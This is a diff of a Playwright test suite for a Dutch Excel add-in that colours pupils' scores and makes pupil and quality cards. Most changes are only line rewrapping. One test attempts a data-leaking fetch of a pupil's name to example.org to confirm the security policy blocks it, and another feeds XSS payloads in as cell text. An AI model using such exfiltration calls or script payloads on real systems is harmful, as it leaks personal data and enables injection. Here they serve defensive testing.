@@ -28,7 +28,9 @@ async function cel(naam: string, kolom: string) {
   const { page } = sessie;
   return page.evaluate(
     ([naam, kolom]) => {
-      const rij = [...document.querySelectorAll("table.blad tbody tr")].find((tr) => tr.querySelector("td[data-kolom=A]")?.textContent === naam);
+      const rij = [...document.querySelectorAll("table.blad tbody tr")].find(
+        (tr) => tr.querySelector("td[data-kolom=A]")?.textContent === naam,
+      );
       const td = rij?.querySelector<HTMLElement>(`td[data-kolom=${kolom}]`);
       return { tekst: td?.textContent ?? null, kleur: td?.dataset.kleur ?? null };
     },
@@ -40,8 +42,12 @@ async function labelVan(naam: string, kop: string) {
   const { page } = sessie;
   return page.evaluate(
     ([naam, kop]) => {
-      const kolom = [...document.querySelectorAll<HTMLElement>("table.blad tbody td")].find((td) => td.textContent === kop)?.dataset.kolom;
-      const rij = [...document.querySelectorAll("table.blad tbody tr")].find((tr) => tr.querySelector("td[data-kolom=A]")?.textContent === naam);
+      const kolom = [...document.querySelectorAll<HTMLElement>("table.blad tbody td")].find(
+        (td) => td.textContent === kop,
+      )?.dataset.kolom;
+      const rij = [...document.querySelectorAll("table.blad tbody tr")].find(
+        (tr) => tr.querySelector("td[data-kolom=A]")?.textContent === naam,
+      );
       return rij?.querySelector(`td[data-kolom=${kolom}]`)?.textContent ?? null;
     },
     [naam, kop] as const,
@@ -72,16 +78,22 @@ describe("the taskpane outside Excel", () => {
         await page.waitForSelector(".uitkomst.klaar");
         expect(await page.textContent(".uitkomst.klaar p")).toMatch(/^Blad Normen gemaakt met indicatieve lijnen/);
         await page.getByRole("button", { name: "Schoolinstellingen invullen" }).click();
-        await page.waitForFunction(() => document.querySelector(".uitkomst p")?.textContent?.includes("Schoolinstellingen bestaat al"));
+        await page.waitForFunction(() =>
+          document.querySelector(".uitkomst p")?.textContent?.includes("Schoolinstellingen bestaat al"),
+        );
         expect(await page.$$eval("#blad option", (o) => o.map((x) => x.textContent))).toContain("Normen");
         await page.screenshot({ path: join(SCREENSHOTS, "stap-0.1-voorbereid.png"), fullPage: true });
       }
       if (titel.startsWith("1.1")) {
         await page.getByRole("button", { name: "Dit blad kleuren" }).click();
         await page.waitForSelector(".uitkomst.klaar");
-        expect(await page.textContent(".uitkomst.klaar p")).toBe("21 leerlingen gekleurd op ontwikkellijn 2F/1S; 1 score zonder vorige afname.");
+        expect(await page.textContent(".uitkomst.klaar p")).toBe(
+          "21 leerlingen gekleurd op ontwikkellijn 2F/1S; 1 score zonder vorige afname.",
+        );
         // The Normen sheet still holds the indicatieve lines: the pane says so, and how to replace them.
-        expect(await page.textContent(".uitkomst.klaar p.let-op")).toMatch(/^Groen en blauw rusten op de indicatieve lijn van LVS Analyse.*stap 0\.1 Voorbereiden/);
+        expect(await page.textContent(".uitkomst.klaar p.let-op")).toMatch(
+          /^Groen en blauw rusten op de indicatieve lijn van LVS Analyse.*stap 0\.1 Voorbereiden/,
+        );
         await page.screenshot({ path: join(SCREENSHOTS, "stap-1.1-gekleurd.png"), fullPage: true });
         expect(await toegankelijkheidsfouten(page), "1.1 gekleurd").toEqual([]);
         await page.locator(".uitkomst.klaar").screenshot({ path: join(SCREENSHOTS, "indicatieve-lijnen.png") });
@@ -106,7 +118,10 @@ describe("the taskpane outside Excel", () => {
 
   it("offers the result as a download that reads back with the colouring in it", async () => {
     const { page } = sessie;
-    const [bestand] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Resultaat downloaden" }).click()]);
+    const [bestand] = await Promise.all([
+      page.waitForEvent("download"),
+      page.getByRole("button", { name: "Resultaat downloaden" }).click(),
+    ]);
     expect(bestand.suggestedFilename()).toBe("Voorbeeldwerkmap De Vlinderboom - LVS Analyse.xlsx");
     const wb = await FileWorkbook.open(readFileSync((await bestand.path())!));
     const { sheets } = await wb.read({ sheets: ["Groep 5"] });
@@ -155,14 +170,24 @@ describe("the taskpane outside Excel", () => {
     await page.getByLabel("Tussenopbrengsten").check();
     await page.getByRole("button", { name: "Kaarten maken" }).click();
     await page.waitForSelector("#kaarten .uitkomst.klaar");
-    expect(await page.textContent("#kaarten .uitkomst.klaar p")).toBe("3 kaarten klaar. Wat je zelf al invulde, is niet veranderd.");
+    expect(await page.textContent("#kaarten .uitkomst.klaar p")).toBe(
+      "3 kaarten klaar. Wat je zelf al invulde, is niet veranderd.",
+    );
     const details = await page.$$eval("#kaarten .uitkomst li", (lis) => lis.map((li) => li.textContent));
-    expect(details[0]).toMatch(/^Blad Kwaliteitskaart leerkracht gemaakt, met \d+ waarden uit de werkmap al ingevuld\.$/);
-    expect(await page.$$eval("#blad option", (os) => os.map((o) => o.textContent))).toEqual(expect.arrayContaining(["Kwaliteitskaart leerkracht", "Kwaliteitskaart IB", "Instrument - Tussenopbrengsten"]));
+    expect(details[0]).toMatch(
+      /^Blad Kwaliteitskaart leerkracht gemaakt, met \d+ waarden uit de werkmap al ingevuld\.$/,
+    );
+    expect(await page.$$eval("#blad option", (os) => os.map((o) => o.textContent))).toEqual(
+      expect.arrayContaining(["Kwaliteitskaart leerkracht", "Kwaliteitskaart IB", "Instrument - Tussenopbrengsten"]),
+    );
     await page.locator("#kaarten-blok").screenshot({ path: join(SCREENSHOTS, "kwaliteitskaarten.png") });
     await page.getByRole("button", { name: "Kaarten maken" }).click();
-    await page.waitForFunction(() => document.querySelector("#kaarten .uitkomst li")?.textContent?.includes("bestond al"));
-    expect(await page.textContent("#kaarten .uitkomst li")).toBe("Blad Kwaliteitskaart leerkracht bestond al: niets aan te vullen.");
+    await page.waitForFunction(() =>
+      document.querySelector("#kaarten .uitkomst li")?.textContent?.includes("bestond al"),
+    );
+    expect(await page.textContent("#kaarten .uitkomst li")).toBe(
+      "Blad Kwaliteitskaart leerkracht bestond al: niets aan te vullen.",
+    );
   });
 
   it("makes the pupil cards of the group at step 1.4 and shows a card as a sheet", async () => {
@@ -171,12 +196,18 @@ describe("the taskpane outside Excel", () => {
     await page.click(".stappenlijst summary");
     await page.getByRole("button", { name: "1.4 Leergroei" }).click();
     await page.getByRole("button", { name: "Leerlingkaarten maken" }).click();
-    await page.waitForFunction(() => document.querySelector(".acties .uitkomst")?.textContent?.includes("leerlingkaarten gemaakt"));
-    expect(await page.textContent(".acties .uitkomst.klaar p")).toMatch(/^21 leerlingkaarten gemaakt, elk op een eigen blad en één A4-pagina/);
+    await page.waitForFunction(() =>
+      document.querySelector(".acties .uitkomst")?.textContent?.includes("leerlingkaarten gemaakt"),
+    );
+    expect(await page.textContent(".acties .uitkomst.klaar p")).toMatch(
+      /^21 leerlingkaarten gemaakt, elk op een eigen blad en één A4-pagina/,
+    );
     await page.selectOption("#blad", "Kaart Tess Mulder");
     await page.waitForFunction(() => document.querySelector("#tabel h2")?.textContent === "Blad Kaart Tess Mulder");
     const cellen = await page.$$eval("table.blad tbody td", (tds) => tds.map((t) => t.textContent));
-    expect(cellen).toEqual(expect.arrayContaining(["Leerlingkaart Tess Mulder", "Voortgang per afname", "Gesprekspunten", "Afspraken"]));
+    expect(cellen).toEqual(
+      expect.arrayContaining(["Leerlingkaart Tess Mulder", "Voortgang per afname", "Gesprekspunten", "Afspraken"]),
+    );
     await page.screenshot({ path: join(SCREENSHOTS, "leerlingkaart.png"), fullPage: true });
     await page.selectOption("#blad", "Groep 5");
   });
@@ -187,7 +218,12 @@ describe("the taskpane outside Excel", () => {
     expect(beleid).toContain("connect-src 'self'");
     expect(beleid).toContain("frame-src 'none'");
     expect(beleid).toContain("script-src 'self' https://appsforoffice.microsoft.com;");
-    const poging = await page.evaluate(() => fetch("https://example.org/lek?naam=Tess").then(() => "verstuurd", () => "geweigerd"));
+    const poging = await page.evaluate(() =>
+      fetch("https://example.org/lek?naam=Tess").then(
+        () => "verstuurd",
+        () => "geweigerd",
+      ),
+    );
     expect(poging).toBe("geweigerd");
     expect(sessie.verzoeken.some((u) => u.includes("example.org"))).toBe(false);
   });
@@ -208,11 +244,19 @@ describe("text from a workbook", () => {
     ws.addRow(["<script>alert(2)</script>", 20, 30]);
     const data = Buffer.from(await wb.xlsx.writeBuffer());
     const { page } = sessie;
-    await page.setInputFiles("#bestand", { name: "vreemd.xlsx", mimeType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", buffer: data });
+    await page.setInputFiles("#bestand", {
+      name: "vreemd.xlsx",
+      mimeType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+      buffer: data,
+    });
     // The cards made before are not downloaded: the pane asks first.
     await page.getByRole("button", { name: "Doorgaan zonder bewaren" }).click();
     await page.waitForFunction(() => document.querySelector("#tabel h2")?.textContent === "Blad Groep 4");
-    await page.getByRole("button", { name: "Dit blad kleuren" }).first().click().catch(() => undefined);
+    await page
+      .getByRole("button", { name: "Dit blad kleuren" })
+      .first()
+      .click()
+      .catch(() => undefined);
     const namen = await page.$$eval("table.blad tbody tr td:first-of-type", (tds) => tds.map((td) => td.textContent));
     expect(namen).toContain("<img src=x onerror=alert(1)>");
     expect(namen).toContain("<script>alert(2)</script>");
@@ -226,10 +270,16 @@ describe("text from a workbook", () => {
 describe("a file that is no workbook", () => {
   it("gets the same Dutch answer as on the command line, without the reader's English", async () => {
     const { page } = sessie;
-    await page.setInputFiles("#bestand", { name: "export.csv", mimeType: "text/csv", buffer: Buffer.from("Naam;Rekenen M5;Rekenen E5\nAda;40;48\nBram;40;47\n") });
+    await page.setInputFiles("#bestand", {
+      name: "export.csv",
+      mimeType: "text/csv",
+      buffer: Buffer.from("Naam;Rekenen M5;Rekenen E5\nAda;40;48\nBram;40;47\n"),
+    });
     await page.waitForFunction(() => /csv-bestand/.test(document.querySelector("#werkmap-melding")?.textContent ?? ""));
     const melding = (await page.textContent("#werkmap-melding")) ?? "";
-    expect(melding).toContain("het is een csv-bestand met gewone tekst, geen werkmap; open het in Excel of LibreOffice en sla het op als Excel-werkmap");
+    expect(melding).toContain(
+      "het is een csv-bestand met gewone tekst, geen werkmap; open het in Excel of LibreOffice en sla het op als Excel-werkmap",
+    );
     expect(melding).not.toMatch(/zip|central directory|Error/i);
     await page.locator("#werkmap").screenshot({ path: join(SCREENSHOTS, "geen-werkmap.png") });
   });
